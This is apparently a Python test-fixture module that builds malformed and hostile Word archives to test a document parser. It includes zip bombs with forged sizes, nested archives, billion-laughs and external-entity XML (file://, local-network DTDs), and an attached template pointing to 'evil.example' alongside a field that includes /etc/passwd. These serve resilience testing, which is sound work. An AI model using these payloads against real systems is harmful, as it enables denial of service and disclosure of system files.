"""Hostile Word documents, made by code: archives and XML that say one thing and are another."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path

from tests.source_files import NS, STORY, docx, paragraph

__all__ = ["OFFICE", "with_document"]

Made = dict[str, tuple[str, Callable[[], bytes]]]


BODY = "".join(map(paragraph, STORY))


def with_document(xml: bytes, *, method: int = zipfile.ZIP_DEFLATED, **parts: bytes) -> bytes:
    """An archive with these bytes as its document; further parts by name with "__" for "/"."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", xml)
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/") + ".xml", data)
    return packed.getvalue()


def _document(body: str, *, before: str = "") -> bytes:
    return f"{before}<w:document {NS}><w:body>{body}</w:body></w:document>".encode()


def _doctype(declared: str, used: str) -> bytes:
    return with_document(_document(BODY + paragraph(used), before=f"<!DOCTYPE d [{declared}]>"))


def _laughs() -> bytes:
    names = "abcdefghijkl"
    declared = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {c} "{f"&{b};" * 10}">' for b, c in pairwise(names))
    return _doctype(declared, "&l;")


def _spaces(megabytes: int, *, said: int | None = None, copies: int = 1) -> bytes:
    """An archive whose document is so many megabytes of spaces; the directory may say another size, and list it often."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * 1_000_000
    squeezed = b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()
    checksum = 0
    for _ in range(megabytes):
        checksum = zlib.crc32(chunk, checksum)
    size = megabytes * 1_000_000 if said is None else said
    sizes = struct.pack("<III", checksum, len(squeezed), size)
    name = b"word/document.xml"
    local = (
        b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", len(name), 0) + name + squeezed
    )
    listed = b""
    for i in range(copies):
        shown = name if i == 0 else b"word/part%d.xml" % i
        listed += b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes
        listed += struct.pack("<HHHHHII", len(shown), 0, 0, 0, 0, 0, 0) + shown
    end = struct.pack("<HHHHIIH", 0, 0, copies & 0xFFFF, copies & 0xFFFF, len(listed), len(local), 0)
    return local + listed + b"PK\5\6" + end


def _nested(levels: int) -> bytes:
    inner = _spaces(50)
    for _ in range(levels):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for i in range(16):
                archive.writestr(f"lib {i}.zip", inner)
        inner = packed.getvalue()
    return inner


def _flagged() -> bytes:
    """Marked as encrypted, here and in the directory."""
    data = bytearray(docx(BODY))
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        start = -1
        while (start := data.find(mark, start + 1)) >= 0:
            data[start + at] |= 1
    return bytes(data)


def _damaged() -> bytes:
    data = bytearray(docx(BODY))
    at = data.find(b"word/document.xml") + 40
    data[at : at + 8] = b"\xff" * 8
    return bytes(data)


def _many_parts() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("word/document.xml", _document(BODY))
        for i in range(20_000):
            archive.writestr(f"word/media/{i}", b"")
    return packed.getvalue()


def _styles() -> bytes:
    styles = "".join(
        f'<w:style w:styleId="s{i}"><w:basedOn w:val="s{(i + 1) % 20_000}"/></w:style>' for i in range(20_000)
    )
    return docx(paragraph(STORY[0], style="s0") + BODY, word__styles=f"<w:styles {NS}>{styles}</w:styles>")


def _outside() -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    target = f'<Relationship Id="r1" Type="{kind}" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{target}</Relationships>'
    )
    field = '<w:p><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    return docx(BODY + field, **{"word___rels__settings.xml.rels": relations})


OFFICE: Made = {
    "spaces by the 190 MB": (".docx", lambda: _spaces(190)),
    "spaces by the 250 MB": (".docx", lambda: _spaces(250)),
    "250 MB that say 1 kB": (".docx", lambda: _spaces(250, said=1000)),
    "50 MB that say 40 kB": (".docx", lambda: _spaces(50, said=40_000)),
    "1 MB that says 4 GB": (".docx", lambda: _spaces(1, said=0xFFFFFFFE)),
    "4,000 parts laid over each other": (".docx", lambda: _spaces(40, said=40_000, copies=4000)),
    "60,000 parts laid over each other": (".docx", lambda: _spaces(1, copies=60_000)),
    "archives in archives": (".docx", lambda: _nested(3)),
    "60 MB by LZMA": (".docx", lambda: with_document(_document(BODY + " " * 60_000_000), method=zipfile.ZIP_LZMA)),
    "55 MB by bzip2": (".docx", lambda: with_document(_document(BODY + " " * 55_000_000), method=zipfile.ZIP_BZIP2)),
    "20,000 parts": (".docx", _many_parts),
    "marked as encrypted": (".docx", _flagged),
    "damaged in the middle": (".docx", _damaged),
    "an old file named .docx": (".docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000),
    "two million paragraphs": (".docx", lambda: docx("<w:p/>" * 2_000_000 + BODY)),
    "300,000 paragraphs with words": (".docx", lambda: docx(paragraph("The board met.") * 300_000)),
    "entities a billion times": (".docx", _laughs),
    "one entity 100,000 times": (".docx", lambda: _doctype(f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 50_000)),
    "an entity from a file": (".docx", lambda: _doctype(f'<!ENTITY a SYSTEM "file://{Path(__file__)}">', "&a;")),
    "an entity from the network": (".docx", lambda: _doctype('<!ENTITY a SYSTEM "http://127.0.0.1:9/x">', "&a;")),
    "a parameter entity": (".docx", lambda: _doctype('<!ENTITY % a SYSTEM "http://127.0.0.1:9/x">%a;', "x")),
    "a document type from the network": (
        ".docx",
        lambda: with_document(_document(BODY, before='<!DOCTYPE d SYSTEM "http://127.0.0.1:9/d.dtd">')),
    ),
    "100,000 nested elements": (".docx", lambda: with_document(_document("<w:sdt>" * 100_000 + BODY))),
    "200 nested tables": (
        ".docx",
        lambda: docx("<w:tbl><w:tr><w:tc>" * 200 + BODY + "</w:tc></w:tr></w:tbl>" * 200),
    ),
    "100,000 attributes": (
        ".docx",
        lambda: with_document(_document("<w:p " + " ".join(f'a{i}="b"' for i in range(100_000)) + "/>" + BODY)),
    ),
    "100,000 namespaces": (
        ".docx",
        lambda: with_document(_document("<w:p " + " ".join(f'xmlns:a{i}="b"' for i in range(100_000)) + "/>" + BODY)),
    ),
    "a text of 30 MB": (".docx", lambda: docx(paragraph("word " * 6_000_000))),
    "styles in a circle": (".docx", _styles),
    "a template from the network": (".docx", _outside),
    "a PDF in a Word archive": (".docx", lambda: docx(BODY) + b"%PDF-1.4\n%%EOF"),
}
